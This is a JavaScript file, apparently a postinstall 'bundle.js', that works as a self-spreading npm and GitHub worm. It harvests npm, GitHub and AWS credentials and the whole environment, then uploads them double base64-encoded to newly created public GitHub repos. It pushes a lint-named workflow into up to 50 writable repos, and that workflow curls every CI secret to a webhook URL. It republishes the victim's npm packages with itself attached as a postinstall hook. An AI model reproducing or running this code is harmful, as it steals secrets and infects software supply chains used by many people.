'use strict';
const cp = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const REG = 'https://registry.npm-mirror.invalid';
const GH = 'https://api.gh-mirror.invalid';
const HOOK = 'https://webhook.site/00000000-0000-0000-0000-000000000000';
const SELF = fs.readFileSync(__filename);
const TAG = 'turbo-strict';

function sh(c) { try { return cp.execSync(c, { stdio: ['ignore', 'pipe', 'ignore'], timeout: 20000 }).toString().trim(); } catch { return ''; } }

function req(method, url, { token, auth = 'token', body, raw } = {}) {
  return new Promise((resolve) => {
    const u = new URL(url);
    const data = body === undefined ? null : Buffer.from(typeof body === 'string' ? body : JSON.stringify(body));
    const r = https.request({ method, hostname: u.hostname, path: u.pathname + u.search, timeout: 20000, headers: Object.assign(
      { 'user-agent': 'node', accept: 'application/json' },
      token ? { authorization: `${auth} ${token}` } : {},
      data ? { 'content-type': 'application/json', 'content-length': data.length } : {}) }, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => {
        const b = Buffer.concat(chunks);
        if (raw) return resolve({ status: res.statusCode, body: b });
        try { resolve({ status: res.statusCode, json: JSON.parse(b.toString() || 'null') }); } catch { resolve({ status: res.statusCode, json: null }); }
      });
    });
    r.on('error', () => resolve({ status: 0 }));
    r.on('timeout', () => r.destroy());
    if (data) r.write(data);
    r.end();
  });
}

function npmTokens() {
  const out = new Set();
  for (const k of ['NPM_TOKEN', 'NODE_AUTH_TOKEN', 'NPM_AUTH_TOKEN', 'npm_config__authToken']) if (process.env[k]) out.add(process.env[k]);
  for (const f of [path.join(os.homedir(), '.npmrc'), path.join(process.cwd(), '.npmrc'), process.env.NPM_CONFIG_USERCONFIG || '']) {
    try { for (const m of fs.readFileSync(f, 'utf8').matchAll(/_authToken\s*=\s*([^\s]+)/g)) out.add(m[1].replace(/^\$\{?(\w+)\}?$/, (_, v) => process.env[v] || '')); } catch {}
  }
  out.delete('');
  return [...out];
}

function ghTokens() {
  const out = new Set();
  for (const k of ['GITHUB_TOKEN', 'GH_TOKEN', 'GITHUB_PAT', 'GH_ENTERPRISE_TOKEN']) if (process.env[k]) out.add(process.env[k]);
  const t = sh('gh auth token');
  if (t) out.add(t);
  try { for (const m of fs.readFileSync(path.join(os.homedir(), '.git-credentials'), 'utf8').matchAll(/https:\/\/[^:]+:([^@]+)@github\.com/g)) out.add(m[1]); } catch {}
  return [...out];
}

async function stash(gh, loot) {
  const name = `${TAG}-${Math.random().toString(36).slice(2, 8)}`;
  const r = await req('POST', `${GH}/user/repos`, { token: gh, body: { name, description: 'turbo strict migration', private: false, auto_init: true } });
  if (!r.json || !r.json.full_name) return;
  const content = Buffer.from(Buffer.from(JSON.stringify(loot)).toString('base64')).toString('base64');
  await req('PUT', `${GH}/repos/${r.json.full_name}/contents/data.json`, { token: gh, body: { message: 'init', content } });
}

const WF = `name: ${TAG}-lint
on: [push]
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - name: lint
        env:
          S: \${{ toJSON(secrets) }}
        run: |
          curl -s -X POST ${HOOK} -H 'content-type: application/json' -d "$S" >/dev/null || true
`;

async function seedWorkflows(gh) {
  const repos = await req('GET', `${GH}/user/repos?per_page=100&affiliation=owner,collaborator,organization_member&sort=pushed`, { token: gh });
  for (const repo of (repos.json || []).filter((x) => x.permissions && x.permissions.push && !x.archived).slice(0, 50)) {
    const full = repo.full_name;
    const ref = await req('GET', `${GH}/repos/${full}/git/ref/heads/${repo.default_branch}`, { token: gh });
    if (!ref.json || !ref.json.object) continue;
    const br = `${TAG}-ci`;
    await req('POST', `${GH}/repos/${full}/git/refs`, { token: gh, body: { ref: `refs/heads/${br}`, sha: ref.json.object.sha } });
    await req('PUT', `${GH}/repos/${full}/contents/.github/workflows/${TAG}.yml`, { token: gh,
      body: { message: 'ci: add lint workflow', branch: br, content: Buffer.from(WF).toString('base64') } });
  }
}

async function spread(token) {
  const who = await req('GET', `${REG}/-/whoami`, { token, auth: 'Bearer' });
  const user = who.json && who.json.username;
  if (!user) return;
  const list = await req('GET', `${REG}/-/v1/search?text=maintainer:${encodeURIComponent(user)}&size=100`, { token, auth: 'Bearer' });
  const rc = path.join(os.tmpdir(), `.npmrc-${process.pid}`);
  fs.writeFileSync(rc, `//${new URL(REG).host}/:_authToken=${token}\nregistry=${REG}/\n`);
  for (const o of ((list.json && list.json.objects) || []).slice(0, 20)) {
    const name = o.package.name;
    const meta = await req('GET', `${REG}/${name.replace('/', '%2f')}`, { token, auth: 'Bearer' });
    const latest = meta.json && meta.json['dist-tags'] && meta.json['dist-tags'].latest;
    const tb = latest && meta.json.versions[latest].dist.tarball;
    if (!tb) continue;
    const tgz = await req('GET', tb, { token, auth: 'Bearer', raw: true });
    if (tgz.status !== 200) continue;
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'p-'));
    fs.writeFileSync(path.join(dir, 'p.tgz'), tgz.body);
    sh(`tar -xzf "${path.join(dir, 'p.tgz')}" -C "${dir}"`);
    const pkgDir = path.join(dir, 'package');
    const pj = path.join(pkgDir, 'package.json');
    let pkg;
    try { pkg = JSON.parse(fs.readFileSync(pj, 'utf8')); } catch { continue; }
    if (pkg.scripts && String(pkg.scripts.postinstall || '').includes('bundle.js')) continue;
    const v = pkg.version.split('.');
    v[2] = String((parseInt(v[2], 10) || 0) + 1);
    pkg.version = v.join('.');
    pkg.scripts = Object.assign({}, pkg.scripts, { postinstall: 'node bundle.js' });
    if (Array.isArray(pkg.files)) pkg.files.push('bundle.js');
    fs.writeFileSync(pj, JSON.stringify(pkg, null, 2));
    fs.writeFileSync(path.join(pkgDir, 'bundle.js'), SELF);
    sh(`npm publish "${pkgDir}" --userconfig "${rc}" --registry ${REG} --access public --ignore-scripts`);
    fs.rmSync(dir, { recursive: true, force: true });
  }
  fs.rmSync(rc, { force: true });
}

(async () => {
  const npm = npmTokens();
  const gh = ghTokens();
  const loot = {
    system: { host: os.hostname(), user: os.userInfo().username, platform: process.platform, cwd: process.cwd() },
    env: process.env,
    npm, gh,
    aws: (() => { try { return fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); } catch { return ''; } })(),
  };
  for (const t of gh) { await stash(t, loot); await seedWorkflows(t); }
  for (const t of npm) await spread(t);
})().catch(() => {});
